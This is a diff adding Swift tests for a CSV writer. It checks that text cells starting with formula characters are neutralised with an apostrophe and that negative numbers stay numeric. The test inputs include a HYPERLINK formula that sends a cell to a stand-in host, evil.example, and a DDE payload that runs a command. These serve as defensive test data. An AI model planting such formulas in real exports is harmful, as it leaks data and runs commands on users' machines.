@@ -9,4 +9,28 @@ import Testing
         table.rows = [[.text("x,\"y\"\r\n"), .integer(nil)], [.text(nil), .integer(-5)]]
         #expect(String(decoding: table.bytes, as: UTF8.self) == "a,b\r\n\"x,\"\"y\"\"\r\n\",\r\n,-5\r\n")
     }
+
+    /// Breaks when a spreadsheet computes what an app has recorded: a formula there can send the other cells away.
+    @Test(arguments: [
+        "=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
+        "\n=1+1", "'=1+1", "'quoted'", "=1,\"+2\"",
+    ]) func aTextIsNeverAFormulaAndCanBeReadBack(text: String) throws {
+        var table = CSVTable(columns: ["a", "b"])
+        table.rows = [[.text(text), .text("plain")]]
+        let row = String(decoding: table.bytes, as: UTF8.self).dropFirst("a,b\r\n".count)
+        // The cell as RFC 4180 has a reader take it.
+        let quoted = row.first == "\""
+        let end = quoted ? "\",plain\r\n" : ",plain\r\n"
+        #expect(row.hasSuffix(end))
+        let cell = row.dropLast(end.count).dropFirst(quoted ? 1 : 0).replacing("\"\"", with: "\"")
+        #expect(cell.unicodeScalars.first == "'", "No spreadsheet begins to compute at an apostrophe.")
+        #expect(cell.unicodeScalars.dropFirst().elementsEqual(text.unicodeScalars))
+    }
+
+    /// Breaks when what is below 0 is a text in a spreadsheet, and no sum has it.
+    @Test func numbersStayNumbers() {
+        var table = CSVTable(columns: ["a"])
+        table.rows = [[.integer(-5)], [.number(-0.25)], [.number(nil)], [.text("1-2")], [.text("a=b")]]
+        #expect(String(decoding: table.bytes, as: UTF8.self) == "a\r\n-5\r\n-0.25\r\n\r\n1-2\r\na=b\r\n")
+    }
 }
